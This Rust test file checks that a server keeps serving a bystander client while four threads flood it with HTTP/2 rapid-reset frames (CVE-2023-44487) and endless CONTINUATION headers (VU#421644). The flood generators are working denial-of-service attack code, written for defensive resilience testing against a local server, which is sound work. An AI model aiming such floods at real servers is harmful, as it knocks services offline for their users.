//! Floods of HTTP/2 frames while another client is served.

use std::{thread, time::Instant};

use policy_tests::frames::{
    CONTINUATION, HEADERS, RST_STREAM, SETTINGS, block, frame, get, pseudo,
};
use tokio::{io::AsyncWriteExt, net::TcpStream};

use super::*;

/// The maximum number of bytes that an attack sends.
const MOST: usize = 256 << 20;

/// Sends what `flood` makes repeatedly, on a new connection when the server closes one.
async fn attack(address: std::net::SocketAddr, flood: fn(u32) -> Vec<u8>) -> (usize, usize) {
    let begun = Instant::now();
    let (mut sent, mut connections) = (0, 0);
    while begun.elapsed() < length() && sent < MOST {
        let Ok(mut stream) = TcpStream::connect(address).await else { continue };
        connections += 1;
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        let mut number = 0;
        while begun.elapsed() < length() && stream.write_all(&bytes).await.is_ok() {
            sent += bytes.len();
            bytes = flood(number);
            number += 1;
        }
    }
    (sent, connections)
}

/// A hundred requests, each reset at once (CVE-2023-44487).
fn resets(number: u32) -> Vec<u8> {
    let stream = |at: u32| (number * 100 + at) * 2 + 1;
    let taken_back = |stream| frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    (0..100).flat_map(|at| [get(stream(at), "/large"), taken_back(stream(at))].concat()).collect()
}

/// A head that never ends (VU#421644).
fn continuations(number: u32) -> Vec<u8> {
    let field = block(&[("x-more", &"x".repeat(4000))]);
    match number {
        0 => frame(HEADERS, 1, 1, &block(&pseudo("GET", "/hello"))),
        _ => (0..10).flat_map(|_| frame(CONTINUATION, 0, 1, &field)).collect(),
    }
}

async fn floods(test: &str, name: &'static str, flood: fn(u32) -> Vec<u8>) {
    if role().is_some() {
        return be_server().await;
    }
    let (server, unit) = busy_server(test).await;
    let address = server.address;
    assert_leaves_nothing(&server, unit, name, async || {
        let bystander = Bystander::start(address);
        let attackers = [(); 4].map(|()| {
            thread::spawn(move || {
                let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
                runtime.expect("a runtime").block_on(attack(address, flood))
            })
        });
        for attacker in attackers {
            let attacker = tokio::task::spawn_blocking(|| attacker.join().expect("an attacker"));
            let (sent, connections) = attacker.await.expect("a thread");
            println!("{name}: {} KiB over {connections} connections", sent / 1024);
            assert!(connections > 1, "{name}: the server takes all of it");
        }
        bystander.report(name);
    })
    .await;
}

#[tokio::test]
async fn rapid_resets_do_not_delay_others() {
    let _machine = crate::alone().await;
    floods("attack::http2::rapid_resets_do_not_delay_others", "rapid resets", resets).await;
}

#[tokio::test]
async fn endless_heads_do_not_delay_others() {
    let _machine = crate::alone().await;
    floods("attack::http2::endless_heads_do_not_delay_others", "endless heads", continuations)
        .await;
}
